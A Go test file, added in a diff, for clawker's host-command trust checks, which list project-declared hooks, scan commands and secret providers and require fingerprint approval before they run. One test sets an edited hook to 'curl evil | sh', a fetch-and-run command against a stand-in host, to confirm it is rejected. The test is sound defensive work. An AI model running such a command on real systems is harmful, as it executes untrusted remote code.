@@ -0,0 +1,109 @@
+package config_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/schmitthub/clawker/internal/config"
+	"github.com/schmitthub/clawker/internal/consts"
+	"github.com/schmitthub/clawker/internal/testenv"
+)
+
+// hostCommandsEnv writes a user-level clawker.yaml and a project
+// .clawker.yaml, then loads config against the project with trusted as the
+// approved fingerprints.
+func hostCommandsEnv(t *testing.T, userYAML, projectYAML string, trusted []string) (config.Config, string) {
+	t.Helper()
+	env := testenv.New(t)
+	require.NoError(t, os.MkdirAll(consts.ConfigDir(), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(consts.ConfigDir(), consts.ProjectConfigFile), []byte(userYAML), 0o644))
+
+	projDir := filepath.Join(env.Dirs.Base, "proj")
+	require.NoError(t, os.MkdirAll(projDir, 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(projDir, "."+consts.ProjectConfigFile), []byte(projectYAML), 0o644))
+
+	t.Chdir(projDir)
+	cfg, err := config.NewConfig(config.WithProjectRoot(projDir), config.WithTrustedHostCommands(trusted))
+	require.NoError(t, err)
+	return cfg, projDir
+}
+
+func TestHostCommands(t *testing.T) {
+	cfg, projDir := hostCommandsEnv(t, `
+hooks:
+  post_ready: notify-send ready
+secrets:
+  token:
+    provider: exec
+    ref: pass-helper token
+`, `
+hooks:
+  pre_create: ./scripts/check.sh
+build:
+  scan:
+    command: grype "$CLAWKER_IMAGE" -o json
+profiles:
+  ci:
+    build:
+      scan:
+        sbom: syft "$CLAWKER_IMAGE"
+secrets:
+  token:
+    env: TOKEN
+  npmrc:
+    provider: file
+    ref: .npmrc
+  home:
+    provider: env
+    ref: HOME
+`, nil)
+
+	file := filepath.Join(projDir, "."+consts.ProjectConfigFile)
+	assert.Equal(t, []config.HostCommand{
+		{Key: "hooks.pre_create", Value: "./scripts/check.sh", File: file},
+		{Key: "build.scan.command", Value: `grype "$CLAWKER_IMAGE" -o json`, File: file},
+		{Key: "profiles.ci.build.scan.sbom", Value: `syft "$CLAWKER_IMAGE"`, File: file},
+		{Key: "secrets.home", Value: "env: HOME", File: file},
+		{Key: "secrets.npmrc", Value: "file: .npmrc", File: file},
+		{Key: "secrets.token", Value: "exec: pass-helper token", File: file},
+	}, config.HostCommands(cfg), "user-level commands are not listed; project secrets of every provider are, as is a project file touching a user exec secret")
+}
+
+func TestCheckHostCommand(t *testing.T) {
+	const userYAML = "hooks:\n  post_ready: notify-send ready\n"
+	const projectYAML = `
+hooks:
+  pre_create: ./scripts/check.sh
+profiles:
+  ci:
+    build:
+      scan:
+        command: grype "$CLAWKER_IMAGE" -o json
+`
+	cfg, projDir := hostCommandsEnv(t, userYAML, projectYAML, nil)
+
+	assert.NoError(t, cfg.CheckHostCommand("hooks.post_ready"), "user-level hooks need no approval")
+	assert.NoError(t, cfg.CheckHostCommand("hooks.pre_remove"), "undeclared keys pass")
+
+	err := cfg.CheckHostCommand("hooks.pre_create")
+	require.ErrorIs(t, err, config.ErrUntrustedHostCommand)
+	assert.Contains(t, err.Error(), filepath.Join(projDir, "."+consts.ProjectConfigFile))
+	assert.ErrorIs(t, cfg.CheckHostCommand("build.scan.command"), config.ErrUntrustedHostCommand,
+		"a profile's scan command gates the key under every profile")
+
+	var fingerprints []string
+	for _, hc := range config.HostCommands(cfg) {
+		fingerprints = append(fingerprints, hc.Fingerprint(projDir))
+	}
+	trusted, _ := hostCommandsEnv(t, userYAML, projectYAML, fingerprints)
+	assert.NoError(t, trusted.CheckHostCommand("hooks.pre_create"))
+	assert.NoError(t, trusted.CheckHostCommand("build.scan.command"))
+
+	edited, _ := hostCommandsEnv(t, userYAML, "hooks:\n  pre_create: curl evil | sh\n", fingerprints)
+	assert.ErrorIs(t, edited.CheckHostCommand("hooks.pre_create"), config.ErrUntrustedHostCommand,
+		"an edited command needs approving again")
+}